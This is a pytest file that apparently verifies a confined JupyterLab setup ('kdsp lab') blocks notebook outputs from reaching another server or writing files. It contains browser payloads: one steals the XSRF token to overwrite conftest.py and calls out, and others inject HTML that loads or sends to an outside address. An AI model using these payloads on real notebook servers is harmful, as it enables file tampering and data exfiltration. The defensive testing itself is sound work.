"""What a confined kernel shows is looked at in a browser, which is not. Each way out works in a plain JupyterLab.

The same cells in `kdsp lab` reach nobody, by themselves or by a click, and write nothing but notebooks.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import threading
from collections.abc import Callable
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import nbformat
import pytest
from started_lab import ALL_CELLS, address_of, run_all_cells
from ways_out import BY_A_CLICK, BY_GOING_THERE, BY_ITSELF, SCRIPT

PATIENCE = 240_000
"""Milliseconds; a slow machine is no fault."""
TABLE = "import pandas; display(pandas.DataFrame({'pupils': [717]}))"
SLIDER = "import ipywidgets; ipywidgets.IntSlider(value=41, description='Pupils')"
WRITES = """
const token = document.cookie.match(/_xsrf=([^;]+)/)?.[1] ?? "";
fetch("/api/contents/conftest.py", {
  method: "PUT", headers: {"X-XSRFToken": token, "Content-Type": "application/json"},
  body: JSON.stringify({type: "file", format: "text", content: "raise SystemExit"})
}).then(() => fetch("THERE"));
"""
LAST = "print('the last ' + 'cell')"
CELLS = (*BY_ITSELF, *BY_A_CLICK)


class Elsewhere(ThreadingHTTPServer):
    """Another server, which notes what it is asked for."""

    def __init__(self) -> None:
        self.asked: set[str] = set()
        self.changed = threading.Condition()
        super().__init__(("127.0.0.1", 0), _Note)
        self.address = f"http://127.0.0.1:{self.server_port}"

    def wait_for(self, names: set[str]) -> set[str]:
        """Those of these that it was never asked for."""
        with self.changed:
            self.changed.wait_for(lambda: names <= self.asked, PATIENCE / 1000)
            return names - self.asked


class _Note(BaseHTTPRequestHandler):
    server: Elsewhere

    def do_GET(self) -> None:
        with self.server.changed:
            self.server.asked.add(self.path.strip("/?"))
            self.server.changed.notify_all()
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_POST = do_GET  # noqa: N815

    def log_message(self, *_: Any) -> None:
        pass


@dataclass
class Shown:
    """The notebook of all ways after Run All, in a browser."""

    page: Any
    elsewhere: Elsewhere
    folder: Path
    said: list[str] = field(default_factory=list)

    def click_on_all(self, when: Callable[[set[str]], Any]) -> None:
        for number, way in enumerate(BY_A_CLICK, start=len(BY_ITSELF)):
            found = self.page.locator(".jp-CodeCell").nth(number).locator(f".jp-OutputArea {way.click}")
            if found.count():
                found.first.click(modifiers=["ControlOrMeta"] if way.name == "link" else [])
            when({way.name})


def notebook(folder: Path, kernel: str, elsewhere: Elsewhere) -> None:
    cells = [way.cell_for(elsewhere.address) for way in CELLS]
    cells += [SCRIPT.format(WRITES.replace("THERE", f"{elsewhere.address}/written")), TABLE, SLIDER, LAST]
    made = nbformat.v4.new_notebook(
        cells=[nbformat.v4.new_code_cell(cell) for cell in cells],
        metadata={"kernelspec": {"name": kernel, "display_name": kernel, "language": "python"}},
    )
    nbformat.write(made, folder / "ways.ipynb")


def run_all(browser: Any, at: str, shown: Shown) -> None:
    shown.page = page = browser.new_context(viewport={"width": 1400, "height": 1000}).new_page()
    page.set_default_timeout(PATIENCE)
    page.on("console", lambda message: shown.said.append(message.text))
    page.on("pageerror", lambda error: shown.said.append(str(error)))
    page.goto(f"{at}&reset")  # not what another test had open
    page.wait_for_selector(".jp-CodeCell >> nth=0")
    run_all_cells(page, page.locator(".jp-OutputArea-output:has-text('the last cell')"))
    page.wait_for_load_state("networkidle")


@pytest.fixture(scope="module")
def plain(browser, tmp_path_factory):
    """A JupyterLab as it comes, with its stock kernel."""
    own, elsewhere = tmp_path_factory.mktemp("plain"), Elsewhere()
    threading.Thread(target=elsewhere.serve_forever, daemon=True).start()
    (own / "notebooks").mkdir()
    notebook(own / "notebooks", "python3", elsewhere)
    for name, settings in ALL_CELLS.items():
        (own / "settings" / name).parent.mkdir(parents=True)
        (own / "settings" / name).write_text(json.dumps(settings), "utf-8")
    with (own / "log").open("wb") as log:
        server = subprocess.Popen(
            [sys.executable, "-m", "jupyterlab", "--no-browser", "--port", "0", "--allow-root",
             "--ServerApp.root_dir", str(own / "notebooks"),
             "--LabApp.check_for_updates_class=jupyterlab.NeverCheckForUpdate"],
            env={**os.environ, "JUPYTER_CONFIG_DIR": str(own / "config"), "JUPYTER_RUNTIME_DIR": str(own / "runtime"),
                 "JUPYTER_DATA_DIR": str(own / "data"), "JUPYTERLAB_SETTINGS_DIR": str(own / "settings"),
                 "JUPYTERLAB_WORKSPACES_DIR": str(own / "workspaces")},
            cwd=own, stdout=log, stderr=log,
        )  # fmt: skip
        try:
            shown = Shown(None, elsewhere, own / "notebooks")
            run_all(browser, address_of(own / "log", server).replace("/lab?", "/lab/tree/ways.ipynb?"), shown)
            yield shown
        finally:
            server.terminate()
            server.wait(PATIENCE / 1000)
            elsewhere.shutdown()


@pytest.fixture(scope="module")
def ours(browser, lab, authority):
    """`kdsp lab`, with the confined kernel."""
    elsewhere = Elsewhere()
    threading.Thread(target=elsewhere.serve_forever, daemon=True).start()
    notebook(authority.root / "notebooks", "kdsp", elsewhere)
    shown = Shown(None, elsewhere, authority.root / "notebooks")
    run_all(browser, re.sub(r"/lab[^?]*", "/lab/tree/ways.ipynb", lab), shown)
    yield shown
    elsewhere.shutdown()


def test_in_a_plain_jupyterlab_every_way_leads_out(plain):
    assert plain.elsewhere.wait_for({way.name for way in BY_ITSELF}) == set()
    assert plain.elsewhere.wait_for({"written"}) == set()
    assert (plain.folder / "conftest.py").read_text() == "raise SystemExit"
    plain.click_on_all(lambda names: plain.elsewhere.wait_for(names) and pytest.fail(f"{names} did not arrive"))
    plain.page.evaluate(GO_THERE, redirection(plain))
    assert plain.elsewhere.wait_for({BY_GOING_THERE.name}) == set()


def test_in_kdsp_lab_none_does(ours):
    where = ours.page.url
    ours.click_on_all(lambda _: ours.page.wait_for_load_state("networkidle"))
    assert ours.elsewhere.asked == set()
    assert ours.page.url.split("#")[0] == where.split("#")[0]
    assert len(ours.page.context.pages) == 1
    assert [path.name for path in ours.folder.iterdir() if path.suffix != ".ipynb" and path.name[0] != "."] == []


def test_what_analysts_show_is_shown(ours):
    assert "717" in ours.page.locator(".jp-OutputArea-output table td").all_inner_texts()
    assert ours.page.locator(".jp-OutputArea-output .widget-readout").last.inner_text() == "41"
    assert ours.page.locator(".jp-Dialog").count() == 0


def test_nothing_of_jupyterlab_itself_is_forbidden(ours):
    told = [said for said in ours.said if "Content Security Policy" in said or "failed to activate" in said]
    assert told == []


def test_the_headers_hold_where_nothing_was_taken_out(ours):
    """As if some output had passed: the browser itself refuses."""
    there = f"{ours.elsewhere.address}/past-the-filter"
    ours.page.evaluate(PAST_THE_FILTER, there)
    ours.page.wait_for_load_state("networkidle")
    assert ours.elsewhere.asked == set()
    ours.page.evaluate(GO_THERE, redirection(ours))
    ours.page.evaluate("address => { window.open(address); location.href = address }", there)
    ours.page.wait_for_load_state("networkidle")
    assert ours.elsewhere.asked == set()
    assert ours.page.locator(".jp-CodeCell").count()


def redirection(shown: Shown) -> str:
    return BY_GOING_THERE.cell_for(shown.elsewhere.address).split("'")[1]


GO_THERE = """html => {
  const into = document.createElement("div");
  into.innerHTML = html;
  document.body.append(into);
}"""
PAST_THE_FILTER = """there => {
  const into = document.createElement("div");
  into.innerHTML = `<img src="${there}"><img src="data:," onerror="fetch('${there}')"><iframe src="${there}"></iframe>
    <link rel="stylesheet" href="${there}"><object data="${there}"></object><video src="${there}" autoplay></video>
    <form action="${there}"></form><div style="background: url(${there})">x</div><base href="${there}">`;
  document.body.append(into);
  into.querySelector("form").submit();
  fetch(there).catch(() => {});
  navigator.sendBeacon(there);
  const script = document.createElement("script");
  script.src = there;
  document.head.append(script);
}"""
